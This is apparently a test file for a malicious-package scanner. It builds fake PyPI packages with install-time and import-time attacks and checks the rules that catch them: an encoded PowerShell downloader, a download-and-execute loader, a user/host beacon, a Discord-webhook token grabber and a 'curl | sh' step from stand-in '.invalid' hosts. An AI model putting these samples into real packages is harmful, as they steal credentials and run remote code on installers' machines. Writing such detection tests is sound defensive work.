"""Shapes that recur in the malicious PyPI corpus (rewritten here, inert, `.invalid` hosts)."""

from __future__ import annotations

import base64
from typing import TYPE_CHECKING

from pyscan_helpers import scan

from chainwarden.models import Severity, Trigger
from support.packages import make_sdist, make_wheel

if TYPE_CHECKING:
    from pathlib import Path

    from chainwarden.models import Finding


def top(findings: list[Finding]) -> Finding:
    return max(findings, key=lambda f: (f.severity, f.trigger.rank))


def test_powershell_encoded_command_in_setup_py(tmp_path: Path) -> None:
    script = "Invoke-WebRequest -Uri https://dl.evil.invalid/a.exe -OutFile a.exe; Start-Process a.exe"
    encoded = base64.b64encode(script.encode("utf-16-le")).decode()
    setup = (
        "import subprocess\nfrom setuptools import setup\n"
        f"subprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand {encoded}', creationflags=0x08000000)\n"
        "setup(name='x')\n"
    )
    hit = top(scan(make_sdist(tmp_path, "x", "1.0", {"setup.py": setup}), tmp_path))
    assert hit.rule_id == "CW201"
    assert hit.trigger is Trigger.INSTALL
    assert "Invoke-WebRequest" in hit.evidence.decoded[-1].preview


def test_xor_loop_then_eval_compile(tmp_path: Path) -> None:
    key = "k3y"
    payload = "import os\nos.system('id')\n"
    blob = "".join(chr(ord(c) ^ ord(key[i % 3])) for i, c in enumerate(payload))
    source = (
        f"key = {key!r}\nblob = {blob!r}\nout = ''\n"
        "for i in range(len(blob)):\n    out += chr(ord(blob[i]) ^ ord(key[i % len(key)]))\n"
        "eval(compile(out, '<string>', 'exec'))\n"
    )
    hit = top(scan(make_wheel(tmp_path, "colors", "1.0", {"colors/__init__.py": source}), tmp_path))
    assert (hit.rule_id, hit.severity) == ("CW201", Severity.CRITICAL)


def test_hostname_beacon_at_import(tmp_path: Path) -> None:
    source = (
        "import getpass, os, urllib.request\n"
        "urllib.request.urlopen('https://beacon.evil.invalid/?u=' + getpass.getuser() + '&h=' + os.uname().nodename)\n"
    )
    hit = top(scan(make_wheel(tmp_path, "internal-lib", "99.0", {"internal_lib/__init__.py": source}), tmp_path))
    assert hit.rule_id == "CW203"
    assert hit.severity >= Severity.HIGH


def test_decoded_code_written_to_disk_and_run(tmp_path: Path) -> None:
    code = (
        "import os, urllib.request\n"
        "target = os.path.join(os.getenv('TEMP', '/tmp'), 'WindowsUpdate.exe')\n"
        "urllib.request.urlretrieve('https://x.invalid/p.exe', target)\n"
        "os.startfile(target)\n"
    )
    blob = base64.b64encode(code.encode()).decode()
    setup = (
        "import base64, subprocess, sys\nfrom setuptools import setup\n\n"
        "def b64(s):\n    return base64.b64decode(s).decode()\n\n"
        f"with open('/tmp/x.py', 'w') as f:\n    f.write(b64('{blob}'))\n"
        "subprocess.Popen([sys.executable, '/tmp/x.py'])\nsetup(name='y')\n"
    )
    hit = top(scan(make_sdist(tmp_path, "y", "1.0", {"setup.py": setup}), tmp_path))
    assert (hit.rule_id, hit.severity) == ("CW201", Severity.CRITICAL)


def test_token_grabber_run_as_script_is_blocked(tmp_path: Path) -> None:
    source = (
        "import os, urllib.request\nWEBHOOK = 'https://discord.com/api/webhooks/1/abc'\n\n"
        "def main():\n    path = os.getenv('APPDATA') + '\\\\Local Storage\\\\leveldb'\n"
        "    urllib.request.urlopen(WEBHOOK, data=open(path).read().encode())\n\n"
        "if __name__ == '__main__':\n    main()\n"
    )
    hit = top(scan(make_wheel(tmp_path, "grab", "1.0", {"grab/__init__.py": source}), tmp_path))
    assert hit.rule_id == "CW203"
    assert hit.severity is Severity.HIGH
    assert hit.trigger is Trigger.CALL


def test_browser_cookie_library_is_not_a_stealer(tmp_path: Path) -> None:
    source = (
        "import os, sqlite3, requests\n\n"
        "def chrome_cookies(domain):\n    path = os.path.expanduser('~/.config/google-chrome/Default/Cookies')\n"
        "    return sqlite3.connect(path).execute('select * from cookies').fetchall()\n\n"
        "def fetch(url):\n    return requests.get(url, cookies=dict(chrome_cookies(url)))\n"
    )
    found = scan(make_wheel(tmp_path, "cookiejar", "1.0", {"cookiejar/__init__.py": source}), tmp_path)
    assert not [f for f in found if f.severity >= Severity.HIGH]


def test_builtins_reached_through_eval_of_their_names(tmp_path: Path) -> None:
    source = '_e = eval("\\x65\\x76\\x61\\x6c")\n_c = _e("compile")\nx, y = exec, str\n'
    hit = top(scan(make_wheel(tmp_path, "loader", "1.0", {"loader/__init__.py": source}), tmp_path))
    assert (hit.rule_id, hit.severity) == ("CW215", Severity.HIGH)


def test_install_command_in_a_helper_module_posts_data(tmp_path: Path) -> None:
    files = {
        "setup.py": "from helpers import cmds\nfrom setuptools import setup\nsetup(name='z', cmdclass=cmds)\n",
        "helpers/__init__.py": "from helpers.commands import Post\ncmds = {'install': Post}\n",
        "helpers/commands.py": (
            "import urllib.request\nfrom setuptools.command.install import install\n\n"
            "class Post(install):\n    def run(self):\n"
            "        urllib.request.urlopen('https://t.evil.invalid/i', data=b'installed')\n"
        ),
    }
    hit = top(scan(make_sdist(tmp_path, "z", "1.0", files), tmp_path))
    assert (hit.rule_id, hit.trigger) == ("CW207", Trigger.INSTALL)
    assert hit.severity is Severity.HIGH


def test_python2_setup_py_is_read_line_by_line(tmp_path: Path) -> None:
    setup = (
        "import os\nfrom distutils.core import setup\n"
        'print "installing"\n'
        "os.system('curl -s https://x.evil.invalid/i.sh | sh')\n"
        "setup(name='old')\n"
    )
    found = scan(make_sdist(tmp_path, "old", "1.0", {"setup.py": setup}), tmp_path)
    hit = top(found)
    assert (hit.rule_id, hit.trigger) == ("CW202", Trigger.INSTALL)
    assert any(f.rule_id == "CW210" for f in found)
